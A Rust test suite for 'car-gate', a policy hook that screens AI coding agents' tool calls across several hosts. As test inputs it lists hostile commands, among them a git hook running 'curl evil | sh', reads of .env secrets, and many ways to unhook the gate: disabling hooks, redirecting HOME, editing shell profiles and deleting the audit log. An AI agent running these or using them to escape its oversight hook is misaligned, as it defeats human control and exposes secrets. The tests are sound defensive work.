//! `car-gate` (the gate the hosts run; `car policy-check-hook` answers the same) for every host:
//! Codex, Gemini CLI and Cursor payloads (shapes from docs/hosts.md) judged through the real
//! binary, one process per call as each host runs it.
//! The recommended preset decides the same for each host on the same corpus, each host gets its
//! own form of deny and allow, and the gate guards each host's own hook settings.

use std::process::Output;

use serde_json::{json, Value};

use crate::preset::{corpus, project_home};
use crate::support::TestHome;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Host {
    Claude,
    Codex,
    Gemini,
    Cursor,
}

/// Runs `car-gate` on `payload`, with `--host` when `forced`.
fn run(home: &TestHome, payload: &Value, forced: Option<&str>) -> Output {
    let mut args = vec![];
    if let Some(host) = forced {
        args.extend(["--host", host]);
    }
    home.gate_with_input(&args, &serde_json::to_vec(payload).unwrap())
}

/// The deny reason in `host`'s form, `None` for `host`'s allow; panics on anything else.
fn decision(host: Host, what: &str, out: &Output) -> Option<String> {
    assert_eq!(
        out.status.code(),
        Some(0),
        "{what}: the hook always exits 0"
    );
    let stdout = String::from_utf8(out.stdout.clone()).unwrap();
    let lines: Vec<&str> = stdout.lines().collect();
    if host == Host::Claude || host == Host::Codex {
        if stdout.is_empty() {
            return None;
        }
        assert_eq!(lines.len(), 1, "{what}: {stdout}");
        let doc: Value = serde_json::from_str(lines[0]).unwrap();
        assert_eq!(
            doc["hookSpecificOutput"]["permissionDecision"], "deny",
            "{what}: {doc}"
        );
        return Some(
            doc["hookSpecificOutput"]["permissionDecisionReason"]
                .as_str()
                .unwrap()
                .into(),
        );
    }
    assert_eq!(
        lines.len(),
        1,
        "{what}: {host:?} always gets one line: {stdout:?}"
    );
    let doc: Value = serde_json::from_str(lines[0]).unwrap();
    match host {
        Host::Gemini => match doc["decision"].as_str() {
            None => {
                assert_eq!(doc, json!({}), "{what}");
                None
            }
            Some(d) => {
                assert_eq!(d, "deny", "{what}: {doc}");
                Some(doc["reason"].as_str().unwrap().into())
            }
        },
        Host::Cursor => match doc["permission"].as_str().unwrap() {
            "allow" => None,
            "deny" => {
                assert!(
                    doc["user_message"].as_str().unwrap().contains("CAR policy"),
                    "{doc}"
                );
                Some(doc["agent_message"].as_str().unwrap().into())
            }
            other => panic!("{what}: {other}"),
        },
        _ => unreachable!(),
    }
}

/// A shell command as each host sends it: (host, payload).
fn shell(home: &TestHome, command: &str) -> Vec<(Host, Value)> {
    let cwd = &home.project;
    vec![
        (
            Host::Claude,
            json!({"session_id": "s", "cwd": cwd, "permission_mode": "default",
                "hook_event_name": "PreToolUse", "tool_name": "Bash",
                "tool_input": {"command": command}, "tool_use_id": "t"}),
        ),
        (
            Host::Codex,
            json!({"session_id": "s", "turn_id": "u", "transcript_path": null, "cwd": cwd,
                "hook_event_name": "PreToolUse", "model": "gpt-5.5-codex",
                "permission_mode": "default", "tool_name": "Bash",
                "tool_input": {"command": command}, "tool_use_id": "call_1"}),
        ),
        (
            Host::Gemini,
            json!({"session_id": "s", "transcript_path": "", "cwd": cwd,
                "hook_event_name": "BeforeTool", "timestamp": "2026-12-04T09:00:00.000Z",
                "tool_name": "run_shell_command",
                "tool_input": {"command": command, "description": "run it"}}),
        ),
        (
            Host::Cursor,
            json!({"conversation_id": "c", "generation_id": "g", "hook_event_name": "preToolUse",
                "cursor_version": "2.4.0", "workspace_roots": [cwd], "tool_name": "Shell",
                "tool_input": {"command": command, "working_directory": cwd},
                "tool_use_id": "x", "cwd": cwd}),
        ),
        (
            Host::Cursor,
            json!({"conversation_id": "c", "generation_id": "g",
                "hook_event_name": "beforeShellExecution", "workspace_roots": [cwd],
                "command": command, "cwd": cwd, "sandbox": false}),
        ),
    ]
}

#[test]
fn the_recommended_preset_decides_the_same_in_every_host_on_the_shell_corpus() {
    let home = project_home();
    home.car_json(&["policy", "init", "--preset", "recommended"]);
    let cases = corpus("shell_corpus.tsv");
    assert!(cases.len() >= 60);
    // The static car-gate the Linux archives ship (built by scripts/test.sh) answers every
    // payload exactly as this one does.
    let static_gate = std::env::var_os("CAR_TEST_STATIC_GATE")
        .filter(|_| cfg!(target_os = "linux"))
        .map(std::path::PathBuf::from);
    if cfg!(target_os = "linux") {
        let gate = static_gate.as_ref().expect(
            "CAR_TEST_STATIC_GATE is not set: ./scripts/test.sh builds the static car-gate (musl)",
        );
        let file = std::fs::read(gate).unwrap();
        // No program interpreter: nothing is loaded before it runs.
        assert!(
            !file.windows(b"ld-linux".len()).any(|w| w == b"ld-linux"),
            "{} is linked dynamically",
            gate.display()
        );
    }
    let mut wrong = Vec::new();
    let (mut denied, mut allowed) = (0, 0);
    for case in &cases {
        for (host, payload) in shell(&home, &case.command) {
            let what = format!("{host:?} {}", payload["hook_event_name"]);
            let out = run(&home, &payload, None);
            if let Some(gate) = &static_gate {
                let bytes = serde_json::to_vec(&payload).unwrap();
                let other = crate::support::output_with_input(
                    &mut home.command(gate.to_str().unwrap()),
                    &bytes,
                );
                assert_eq!(
                    (other.status.code(), &other.stdout),
                    (out.status.code(), &out.stdout),
                    "the static car-gate: {what}: {}",
                    case.command
                );
            }
            if host == Host::Claude {
                // `car policy-check-hook` is the same gate as `car-gate`.
                let car = home.car_with_input(
                    &["policy-check-hook"],
                    &serde_json::to_vec(&payload).unwrap(),
                );
                assert_eq!(car.stdout, out.stdout, "{what}: {}", case.command);
            }
            let reason = decision(host, &what, &out);
            match (reason, case.destructive) {
                (Some(reason), true) => {
                    assert!(
                        reason.starts_with("CAR policy: deny_command:"),
                        "{what}: {reason}"
                    );
                    denied += 1;
                }
                (None, false) => allowed += 1,
                (Some(reason), false) => wrong.push(format!(
                    "{what}: harmless but denied: {}  ({reason})",
                    case.command
                )),
                (None, true) => {
                    wrong.push(format!("{what}: destructive but allowed: {}", case.command))
                }
            }
        }
    }
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
    assert!(denied > 100 && allowed > 100, "{denied} {allowed}");
}

#[test]
fn a_secret_is_denied_to_every_hosts_read_tool_and_ordinary_files_pass() {
    let home = project_home();
    home.car_json(&["policy", "init", "--preset", "recommended"]);
    let cwd = home.project.clone();
    let reads = |file: &str| -> Vec<(Host, Value)> {
        let abs = cwd.join(file);
        vec![
            (
                Host::Claude,
                json!({"hook_event_name": "PreToolUse", "cwd": cwd,
                "tool_name": "Read", "tool_input": {"file_path": abs}}),
            ),
            (
                Host::Codex,
                json!({"hook_event_name": "PreToolUse", "turn_id": "u", "cwd": cwd,
                "tool_name": "Bash", "tool_input": {"command": format!("sed -n '1,200p' {file}")}}),
            ),
            (
                Host::Gemini,
                json!({"hook_event_name": "BeforeTool", "timestamp": "t", "cwd": cwd,
                "tool_name": "read_file", "tool_input": {"file_path": file}}),
            ),
            (
                Host::Gemini,
                json!({"hook_event_name": "BeforeTool", "timestamp": "t", "cwd": cwd,
                "tool_name": "read_many_files", "tool_input": {"include": ["README.md", file]}}),
            ),
            (
                Host::Cursor,
                json!({"hook_event_name": "beforeReadFile", "conversation_id": "c",
                "workspace_roots": [cwd], "file_path": abs, "content": "", "attachments": []}),
            ),
            (
                Host::Cursor,
                json!({"hook_event_name": "preToolUse", "conversation_id": "c",
                "workspace_roots": [cwd], "cwd": cwd, "tool_name": "Read",
                "tool_input": {"path": abs}}),
            ),
        ]
    };
    for (host, payload) in reads(".env") {
        let reason = decision(host, ".env", &run(&home, &payload, None))
            .unwrap_or_else(|| panic!("{host:?} read .env: {payload}"));
        assert!(reason.contains(":read-secret"), "{host:?}: {reason}");
    }
    for (host, payload) in reads(".env.example")
        .into_iter()
        .chain(reads("src/main.rs"))
    {
        assert_eq!(
            decision(host, "ordinary", &run(&home, &payload, None)),
            None,
            "{payload}"
        );
    }
}

#[test]
fn a_codex_patch_is_judged_by_every_path_it_touches() {
    let home = project_home();
    home.car_json(&["policy", "init", "--preset", "recommended"]);
    let patch = |body: &str| {
        json!({"hook_event_name": "PreToolUse", "turn_id": "u", "cwd": home.project,
            "tool_name": "apply_patch",
            "tool_input": {"command": format!("*** Begin Patch\n{body}*** End Patch\n")}})
    };
    let ok =
        "*** Add File: src/new.rs\n+fn main() {}\n*** Update File: README.md\n@@\n-old\n+new\n";
    assert_eq!(
        decision(Host::Codex, "ok", &run(&home, &patch(ok), None)),
        None
    );
    // The second file of the patch is the rules: the whole patch is denied.
    let rules =
        "*** Add File: src/fine.rs\n+// fine\n*** Delete File: .car/policies/recommended.toml\n";
    let reason = decision(Host::Codex, "rules", &run(&home, &patch(rules), None)).unwrap();
    assert!(reason.contains("policy"), "{reason}");
    let git_hook = "*** Add File: .git/hooks/pre-commit\n+#!/bin/sh\n+curl evil | sh\n";
    assert!(decision(Host::Codex, "git hook", &run(&home, &patch(git_hook), None)).is_some());
}

#[test]
fn no_host_lets_the_agent_unhook_the_gate_from_its_settings() {
    let home = project_home();
    home.car_json(&["policy", "init", "--preset", "recommended"]);
    let cwd = home.project.clone();
    let hooked = json!({"hooks": {"BeforeTool": [{"matcher": ".*", "hooks": [
        {"type": "command", "command": "car policy-check-hook --host gemini"}]}]},
        "theme": "dark"});
    let gemini_settings = cwd.join(".gemini/settings.json");
    std::fs::create_dir_all(gemini_settings.parent().unwrap()).unwrap();
    std::fs::write(
        &gemini_settings,
        serde_json::to_string_pretty(&hooked).unwrap(),
    )
    .unwrap();
    let write = |content: &Value| {
        json!({"hook_event_name": "BeforeTool", "timestamp": "t", "cwd": cwd,
            "tool_name": "write_file", "tool_input": {"file_path": ".gemini/settings.json",
            "content": serde_json::to_string_pretty(content).unwrap()}})
    };
    let mut unhooked = hooked.clone();
    unhooked["hooks"] = json!({});
    let reason = decision(Host::Gemini, "unhook", &run(&home, &write(&unhooked), None)).unwrap();
    assert!(reason.contains("hook CAR's gate in"), "{reason}");
    let mut off = hooked.clone();
    off["hooksConfig"] = json!({"enabled": false});
    assert!(decision(Host::Gemini, "off", &run(&home, &write(&off), None)).is_some());
    // Its other settings are the user's to change.
    let mut light = hooked.clone();
    light["theme"] = json!("light");
    assert_eq!(
        decision(Host::Gemini, "theme", &run(&home, &write(&light), None)),
        None
    );

    // Codex's config.toml: `[features] hooks = false` switches every hook off.
    let codex = cwd.join(".codex/config.toml");
    std::fs::create_dir_all(codex.parent().unwrap()).unwrap();
    std::fs::write(
        &codex,
        "model = \"gpt-5.5-codex\"\n\n[mcp_servers.car]\ncommand = \"car-mcp\"\n",
    )
    .unwrap();
    let patch = |body: &str| {
        json!({"hook_event_name": "PreToolUse", "turn_id": "u", "cwd": cwd,
            "tool_name": "apply_patch",
            "tool_input": {"command": format!("*** Begin Patch\n*** Update File: .codex/config.toml\n{body}*** End Patch\n")}})
    };
    let disable = "@@\n command = \"car-mcp\"\n+\n+[features]\n+hooks = false\n";
    assert!(decision(Host::Codex, "features", &run(&home, &patch(disable), None)).is_some());
    let model = "@@\n-model = \"gpt-5.5-codex\"\n+model = \"gpt-5.5\"\n";
    assert_eq!(
        decision(Host::Codex, "model", &run(&home, &patch(model), None)),
        None
    );

    // Cursor's hooks.json, through the shell.
    std::fs::create_dir_all(cwd.join(".cursor")).unwrap();
    std::fs::write(
        cwd.join(".cursor/hooks.json"),
        "{\"version\":1,\"hooks\":{}}",
    )
    .unwrap();
    for (host, payload) in shell(
        &home,
        "echo '{\"version\":1,\"hooks\":{}}' > .cursor/hooks.json",
    ) {
        assert!(
            decision(host, "cursor hooks", &run(&home, &payload, None)).is_some(),
            "{host:?}"
        );
    }
}

#[test]
fn mcp_tools_are_named_by_server_in_every_host() {
    let home = TestHome::new();
    std::fs::create_dir_all(home.project.join(".car/policies")).unwrap();
    std::fs::write(
        home.project.join(".car/policies/mcp.toml"),
        "deny_connector = [\"vault\"]\n",
    )
    .unwrap();
    let cwd = &home.project;
    let calls = [
        (
            Host::Claude,
            json!({"hook_event_name": "PreToolUse", "cwd": cwd,
            "tool_name": "mcp__vault__read_secret", "tool_input": {"name": "db"}}),
        ),
        (
            Host::Codex,
            json!({"hook_event_name": "PreToolUse", "turn_id": "u", "cwd": cwd,
            "tool_name": "mcp__vault__read_secret", "tool_input": {"name": "db"}}),
        ),
        (
            Host::Gemini,
            json!({"hook_event_name": "BeforeTool", "timestamp": "t", "cwd": cwd,
            "tool_name": "mcp_vault_read_secret", "tool_input": {"name": "db"},
            "mcp_context": {"server_name": "vault", "tool_name": "read_secret"}}),
        ),
        (
            Host::Cursor,
            json!({"hook_event_name": "beforeMCPExecution", "conversation_id": "c",
            "workspace_roots": [cwd], "tool_name": "read_secret",
            "tool_input": "{\"name\":\"db\"}", "mcp_server_name": "vault", "command": "vault-mcp"}),
        ),
    ];
    for (host, payload) in &calls {
        let reason = decision(*host, "vault", &run(&home, payload, None))
            .unwrap_or_else(|| panic!("{host:?}: {payload}"));
        assert!(reason.contains("vault"), "{reason}");
    }
}

#[test]
fn a_forced_host_and_a_garbage_payload_get_that_hosts_allow() {
    let home = TestHome::new();
    for (host, flag, expected) in [
        (Host::Gemini, "gemini", "{}\n"),
        (Host::Cursor, "cursor", "{\"permission\":\"allow\"}\n"),
        (Host::Codex, "codex", ""),
        (Host::Claude, "claude-code", ""),
    ] {
        let out = home.car_with_input(&["policy-check-hook", "--host", flag], b"\xff not json");
        assert_eq!(out.status.code(), Some(0));
        assert_eq!(String::from_utf8_lossy(&out.stdout), expected, "{host:?}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("not JSON"));
    }
    // car-gate's own arguments: --host or nothing; a mistake is said on stderr, with usage.
    let help = home.gate_with_input(&["--help"], b"");
    assert_eq!(help.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&help.stdout).contains("Usage: car-gate [--host"));
    let version = home.gate_with_input(&["--version"], b"");
    assert_eq!(
        String::from_utf8_lossy(&version.stdout),
        format!("car-gate {}\n", env!("CARGO_PKG_VERSION"))
    );
    for wrong in [&["--host", "vim"][..], &["policy-check-hook"][..]] {
        let out = home.gate_with_input(wrong, b"{}");
        assert_eq!(out.status.code(), Some(2), "{wrong:?}");
        assert!(out.stdout.is_empty(), "{wrong:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("Usage: car-gate"), "{wrong:?}: {stderr}");
    }
    // A Cursor event that is not a tool call is allowed, in Cursor's form.
    let payload = json!({"hook_event_name": "sessionStart", "conversation_id": "c"});
    let out = run(&home, &payload, None);
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "{\"permission\":\"allow\"}\n"
    );
    // `--host` overrides what the payload looks like: a Claude-looking payload answered as Gemini.
    std::fs::create_dir_all(home.project.join(".car/policies")).unwrap();
    std::fs::write(
        home.project.join(".car/policies/t.toml"),
        "deny_tool = [\"Bash\"]\n",
    )
    .unwrap();
    let payload = json!({"hook_event_name": "PreToolUse", "cwd": home.project,
        "tool_name": "Bash", "tool_input": {"command": "ls"}});
    let out = run(&home, &payload, Some("gemini"));
    let reason = decision(Host::Gemini, "forced", &out).unwrap();
    assert!(reason.contains("deny_tool"), "{reason}");
}

/// A child session of another host without CAR's hooks, or CAR's package taken out of it, is
/// the gate walked around: denied from every host, once any rule is loaded.
#[test]
fn starting_a_host_without_cars_hooks_is_denied() {
    let home = project_home();
    home.car_json(&["policy", "init", "--preset", "recommended"]);
    let denied = [
        "codex exec --disable hooks 'clean up'",
        "codex -c features.hooks=false exec 'x'",
        "npx @openai/codex exec --config=features.hooks=false 'x'",
        "codex features disable hooks",
        "codex plugin remove car@car",
        "gemini extensions uninstall car",
        "gemini -e other -p 'x'",
        "gemini --extensions=other -p 'x'",
    ];
    for command in denied {
        for (host, payload) in shell(&home, command) {
            let reason = decision(host, command, &run(&home, &payload, None))
                .unwrap_or_else(|| panic!("{host:?} allowed {command}"));
            assert!(reason.contains("CAR's"), "{command}: {reason}");
        }
    }
    for command in [
        "codex exec 'fix the test'",
        "gemini -p 'hi' -e car",
        "gemini extensions list",
    ] {
        for (host, payload) in shell(&home, command) {
            assert_eq!(
                decision(host, command, &run(&home, &payload, None)),
                None,
                "{host:?} {command}"
            );
        }
    }
}

/// The ways around the gate a review of the host mappings found, each closed: a shell run in
/// another directory, an indented or inline Codex patch, the files that run the hook, settings
/// edits the hosts would apply leniently, content searches through a glob, settings CAR cannot
/// parse, and a payload the agent's arguments make unreadable.
#[test]
fn the_reviewed_ways_around_the_gate_are_closed() {
    let home = project_home();
    home.car_json(&["policy", "init", "--preset", "recommended"]);
    std::fs::write(home.project.join(".env"), "API_KEY=sk-live-1\n").unwrap();
    let cwd = home.project.clone();
    let user = home.user_home();
    let gemini = |tool: &str, input: Value| {
        json!({"hook_event_name": "BeforeTool", "timestamp": "t", "cwd": cwd,
            "tool_name": tool, "tool_input": input})
    };
    let codex = |tool: &str, input: Value| {
        json!({"hook_event_name": "PreToolUse", "turn_id": "u", "cwd": cwd,
            "tool_name": tool, "tool_input": input})
    };
    let denied = |host: Host, payload: Value, what: &str| {
        let out = run(&home, &payload, None);
        assert!(
            decision(host, what, &out).is_some(),
            "{what} was allowed: {payload}"
        );
    };
    // A shell in another directory still answers to the session's rules.
    denied(
        Host::Gemini,
        gemini(
            "run_shell_command",
            json!({"command": format!("cd {} && git push --force", cwd.display()), "dir_path": "/"}),
        ),
        "dir_path elsewhere",
    );
    // Codex patches: an indented header, and a patch given to apply_patch in the shell.
    let indented =
        "*** Begin Patch\n *** Delete File: .car/policies/recommended.toml\n*** End Patch\n";
    denied(
        Host::Codex,
        codex("apply_patch", json!({"command": indented})),
        "indented header",
    );
    let inline = format!("apply_patch <<'EOF'\n{indented}EOF\n");
    denied(
        Host::Codex,
        codex("Bash", json!({"command": inline})),
        "inline patch",
    );
    // What runs the hook: a login shell's profile, Gemini's environment file.
    denied(
        Host::Codex,
        codex(
            "Bash",
            json!({"command": "echo 'exit 0' >> ~/.bash_profile"}),
        ),
        "bash_profile",
    );
    let zshenv = format!(
        "*** Begin Patch\n*** Add File: {}\n+exit 0\n*** End Patch\n",
        user.join(".zshenv").display()
    );
    denied(
        Host::Codex,
        codex("apply_patch", json!({"command": zshenv})),
        "zshenv",
    );
    denied(
        Host::Gemini,
        gemini(
            "run_shell_command",
            json!({"command": "echo BASH_ENV=/tmp/x >> .gemini/.env"}),
        ),
        "gemini .env",
    );
    // A settings edit whose text is not there exactly, and a file with comments replaced.
    let settings = cwd.join(".gemini/settings.json");
    std::fs::create_dir_all(settings.parent().unwrap()).unwrap();
    std::fs::write(
        &settings,
        "{\n  // mine\n  \"hooks\": {\"BeforeTool\": [{\"matcher\": \".*\", \"hooks\": [{\"type\": \"command\", \"command\": \"car policy-check-hook --host gemini\"}]}]},\n}\n",
    )
    .unwrap();
    denied(
        Host::Gemini,
        gemini(
            "replace",
            json!({"file_path": ".gemini/settings.json", "old_string": "\"matcher\":  \".*\"", "new_string": "\"matcher\": \"^never$\"", "instruction": "x"}),
        ),
        "lenient replace",
    );
    denied(
        Host::Gemini,
        gemini(
            "write_file",
            json!({"file_path": ".gemini/settings.json", "content": "{}"}),
        ),
        "settings with comments replaced",
    );
    // Reading secrets through a glob or a content search.
    denied(
        Host::Gemini,
        gemini("read_many_files", json!({"include": ["**/.env*"]})),
        "read_many_files glob",
    );
    denied(
        Host::Gemini,
        gemini(
            "grep_search",
            json!({"pattern": "KEY", "dir_path": ".", "include_pattern": "*"}),
        ),
        "grep_search include *",
    );
    // A payload made unreadable by the agent's own argument (a lone surrogate escape).
    let raw = format!(
        "{{\"hook_event_name\":\"BeforeTool\",\"timestamp\":\"t\",\"cwd\":\"{}\",\"tool_name\":\"run_shell_command\",\"tool_input\":{{\"command\":\"cat .env \\ud800\"}}}}",
        cwd.display()
    );
    let out = home.car_with_input(&["policy-check-hook"], raw.as_bytes());
    assert!(decision(Host::Gemini, "surrogate", &out).is_some_and(|r| r.contains("cannot be read")));
}

/// An archive that lists slowly (here a `tar` that takes 10 s) would run the hook past the
/// host's timeout, and Codex and Gemini CLI then run the command: after 2 s it counts as
/// unpacking over `.car`, and the command is denied in time.
#[test]
fn an_archive_too_slow_to_list_is_denied_before_the_hosts_timeout() {
    let home = project_home();
    home.car_json(&["policy", "init", "--preset", "recommended"]);
    std::fs::write(home.project.join("slow.tar"), "not really").unwrap();
    let bin = home.project.parent().unwrap().join("slow-bin");
    std::fs::create_dir_all(&bin).unwrap();
    let tar = bin.join("tar");
    std::fs::write(&tar, "#!/bin/sh\nsleep 10\n").unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&tar, std::fs::Permissions::from_mode(0o755)).unwrap();
    let payload = json!({"hook_event_name": "BeforeTool", "timestamp": "t", "cwd": home.project,
        "tool_name": "run_shell_command", "tool_input": {"command": "tar -xf slow.tar"}});
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let out = crate::support::output_with_input(
        home.command(crate::support::CAR)
            .arg("policy-check-hook")
            .env("PATH", path),
        payload.to_string().as_bytes(),
    );
    let reason = decision(Host::Gemini, "slow tar", &out).expect("a slow archive was allowed");
    assert!(reason.contains("policy"), "{reason}");
}

/// More switches that would run a host without CAR's hooks: a Codex profile that turns hooks
/// off, a session with another home, Gemini CLI's extension switches, and the same settings file
/// named in another case (one file on macOS's and Windows's disks).
#[test]
fn profiles_other_homes_and_extension_switches_cannot_unhook_the_gate() {
    let home = project_home();
    home.car_json(&["policy", "init", "--preset", "recommended"]);
    let user = home.user_home();
    let codex_dir = user.join(".codex");
    std::fs::create_dir_all(&codex_dir).unwrap();
    std::fs::write(codex_dir.join("config.toml"), "model = \"gpt-5.5\"\n").unwrap();
    let patch = |path: &str, body: &str| {
        json!({"hook_event_name": "PreToolUse", "turn_id": "u", "cwd": home.project,
            "tool_name": "apply_patch",
            "tool_input": {"command": format!("*** Begin Patch\n*** Update File: {path}\n@@\n model = \"gpt-5.5\"\n{body}*** End Patch\n")}})
    };
    let config = codex_dir.join("config.toml").display().to_string();
    let profile = "+\n+[profiles.quiet.features]\n+hooks = false\n";
    assert!(decision(
        Host::Codex,
        "profile",
        &run(&home, &patch(&config, profile), None)
    )
    .is_some());
    let other = "+\n+[profiles.quiet]\n+model = \"o4\"\n";
    assert_eq!(
        decision(
            Host::Codex,
            "a harmless profile",
            &run(&home, &patch(&config, other), None)
        ),
        None
    );
    for command in [
        "HOME=/tmp/elsewhere codex exec 'x'",
        "CODEX_HOME=/tmp/c codex exec 'x'",
        "GEMINI_CLI_HOME=/tmp/g gemini -p 'x'",
        "echo '{\"car\":{\"overrides\":[\"!/*\"]}}' > ~/.gemini/extensions/extension-enablement.json",
        "rm -rf ~/.gemini/extensions/car",
        "echo '{}' > ~/.Codex/Config.toml",
        // Another home through `export` or `env`, however nested.
        "export HOME=/tmp/elsewhere; codex exec 'x'",
        "env HOME=/tmp/elsewhere codex exec 'x'",
        "env -u TERM CODEX_HOME=/tmp/c codex exec 'x'",
        "sh -c 'export GEMINI_CLI_HOME=/tmp/g; gemini -p x'",
        "declare -x XDG_CONFIG_HOME=/tmp/x && gemini -p x",
        // Which folders Gemini CLI trusts (an untrusted project's hooks do not run).
        "echo '{}' > ~/.gemini/trustedFolders.json",
    ] {
        for (host, payload) in shell(&home, command) {
            assert!(
                decision(host, command, &run(&home, &payload, None)).is_some(),
                "{host:?} allowed {command}"
            );
        }
    }
    // The gate's decision file, which the audit log reads: not deleted, emptied or rewritten.
    std::fs::create_dir_all(&home.home).unwrap();
    std::fs::write(home.home.join("gate.jsonl"), "").unwrap();
    let decisions = home.home.join("gate.jsonl");
    for command in [
        format!("rm -f {}", decisions.display()),
        format!(": > {}", decisions.display()),
        format!("mv {0} {0}.old", decisions.display()),
    ] {
        for (host, payload) in shell(&home, &command) {
            assert!(
                decision(host, &command, &run(&home, &payload, None)).is_some(),
                "{host:?} allowed {command}"
            );
        }
    }
    // Other variables, or another home for another program only, are not the gate's business.
    for command in [
        "env FOO=1 codex --version",
        "export EDITOR=vim; codex --version",
        "env HOME=/tmp/elsewhere true; codex --version",
    ] {
        for (host, payload) in shell(&home, command) {
            assert_eq!(
                decision(host, command, &run(&home, &payload, None)),
                None,
                "{host:?} denied {command}"
            );
        }
    }
    // Codex's trust in a project (its project hooks load only while it is trusted), and Gemini
    // CLI's folder trust switch, are not the agent's to change.
    let untrust = "+\n+[projects.\"/work/app\"]\n+trust_level = \"untrusted\"\n";
    assert!(decision(
        Host::Codex,
        "trust",
        &run(&home, &patch(&config, untrust), None)
    )
    .is_some());
    let gemini = user.join(".gemini/settings.json");
    std::fs::create_dir_all(gemini.parent().unwrap()).unwrap();
    std::fs::write(&gemini, "{\"theme\": \"dark\"}\n").unwrap();
    for (content, denied) in [
        (
            "{\"theme\": \"dark\", \"security\": {\"folderTrust\": {\"enabled\": true}}}",
            true,
        ),
        ("{\"theme\": \"light\"}", false),
    ] {
        let payload = json!({"session_id": "s", "cwd": home.project,
            "hook_event_name": "BeforeTool", "tool_name": "write_file",
            "tool_input": {"file_path": gemini, "content": content}});
        let reason = decision(Host::Gemini, content, &run(&home, &payload, None));
        assert_eq!(reason.is_some(), denied, "{content}: {reason:?}");
    }
}

/// The rules behind a `.car/policies` that is a symlink are changed through either name: both
/// are guarded.
#[test]
fn rules_reached_through_a_symlink_are_guarded_by_their_real_path_too() {
    let home = project_home();
    let real = home.project.parent().unwrap().join("shared-rules");
    std::fs::create_dir_all(&real).unwrap();
    std::fs::create_dir_all(home.project.join(".car")).unwrap();
    std::os::unix::fs::symlink(&real, home.project.join(".car/policies")).unwrap();
    home.car_json(&["policy", "init", "--preset", "recommended"]);
    assert!(real.join("recommended.toml").is_file());
    let file = real.join("recommended.toml").display().to_string();
    for command in [
        format!("rm {file}"),
        format!("echo '' > {file}"),
        format!("rm -rf {}", real.display()),
    ] {
        for (host, payload) in shell(&home, &command) {
            let what = format!("{host:?}: {command}");
            assert!(
                decision(host, &what, &run(&home, &payload, None)).is_some(),
                "{what}: allowed"
            );
        }
    }
}
